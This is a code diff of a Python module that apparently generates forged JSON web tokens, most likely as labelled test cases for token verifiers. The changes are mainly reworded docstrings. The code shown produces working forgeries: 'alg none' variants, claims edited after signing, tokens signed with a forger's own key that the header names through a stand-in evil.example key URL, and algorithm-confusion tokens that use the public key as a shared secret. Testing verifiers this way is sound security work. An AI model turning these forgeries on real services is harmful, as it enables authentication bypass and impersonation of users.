@@ -1,4 +1,4 @@
-"""JSON web tokens that nobody with the right key has signed."""
+"""Forge JSON web tokens without the right key."""
 
 import hmac
 import json
@@ -20,7 +20,7 @@ _SOMEWHERE = "https://evil.example/keys.json"
 
 @dataclass(frozen=True)
 class Token:
-    """A compact token, taken apart."""
+    """A decoded compact token."""
 
     header: dict[str, Json]
     claims: dict[str, Json]
@@ -28,28 +28,28 @@ class Token:
 
     @classmethod
     def read(cls, text: str) -> Self:
-        """Take a token apart; ValueError for a text that is none."""
+        """Decode a token; raise ValueError for a text that is none."""
         header, claims, signature = text.split(".")
         return cls(json.loads(_raw(header)), json.loads(_raw(claims)), _raw(signature))
 
     @property
     def signed(self) -> str:
-        """What a signature is about."""
+        """Return the part that is signed."""
         return f"{_part(self.header)}.{_part(self.claims)}"
 
     def with_signature(self, signature: bytes) -> str:
-        """The compact form."""
+        """Return the compact form."""
         return f"{self.signed}.{_text(signature)}"
 
 
 def hs256(header: dict[str, Json], claims: dict[str, Json], secret: bytes) -> str:
-    """A token signed with a shared secret."""
+    """Return a token signed with a shared secret."""
     token = Token({"typ": "JWT", **header, "alg": "HS256"}, claims, b"")
     return token.with_signature(hmac.digest(secret, token.signed.encode(), sha256))
 
 
 def unsigned(token: Token) -> Iterator[tuple[str, str]]:
-    """Without a signature, or with a header that says none is needed."""
+    """Yield tokens without a signature, or with a header that says none is needed."""
     for name in ("none", "None", "NONE", "nOnE", ""):
         bare = Token({**token.header, "alg": name}, token.claims, b"")
         yield f"algorithm {name or 'empty'}", bare.with_signature(b"")
@@ -63,7 +63,7 @@ def unsigned(token: Token) -> Iterator[tuple[str, str]]:
 
 
 def edited(token: Token, **claims: Json) -> Iterator[tuple[str, str]]:
-    """Changed after it was signed."""
+    """Yield tokens changed after signing."""
     for name, value in claims.items():
         yield f"another {name}", Token(token.header, {**token.claims, name: value}, b"").with_signature(token.signature)
     yield "another header", Token({**token.header, "x": 1}, token.claims, b"").with_signature(token.signature)
@@ -76,7 +76,7 @@ def edited(token: Token, **claims: Json) -> Iterator[tuple[str, str]]:
 
 
 def self_keyed(token: Token, claims: dict[str, Json]) -> Iterator[tuple[str, str]]:
-    """Signed with a key of the forger's, which the header names or carries."""
+    """Yield tokens signed with the forger's key, which the header names or carries."""
     mine = ec.generate_private_key(ec.SECP256R1())
     jwk = _jwk(mine.public_key())
     hints: dict[str, dict[str, Json]] = {
@@ -91,7 +91,7 @@ def self_keyed(token: Token, claims: dict[str, Json]) -> Iterator[tuple[str, str
 
 
 def confused(token: Token, claims: dict[str, Json], jwk: dict[str, str]) -> Iterator[tuple[str, str]]:
-    """Signed with the public key, which everybody has, as if it were a shared secret."""
+    """Yield tokens signed with the public key as if it were a shared secret."""
     x, y = (int.from_bytes(_raw(jwk[name]), "big") for name in ("x", "y"))
     public = ec.EllipticCurvePublicNumbers(x, y, ec.SECP256R1()).public_key()
     pem = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
@@ -123,7 +123,7 @@ def _flipped(data: bytes, place: int) -> bytes:
 
 
 def _neighbour(letter: str) -> str:
-    """A letter that differs in the last bit only, which no byte of a signature reaches."""
+    """Return a letter that differs in the last bit only, which no byte of a signature reaches."""
     alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
     return alphabet[alphabet.index(letter) ^ 1]
 
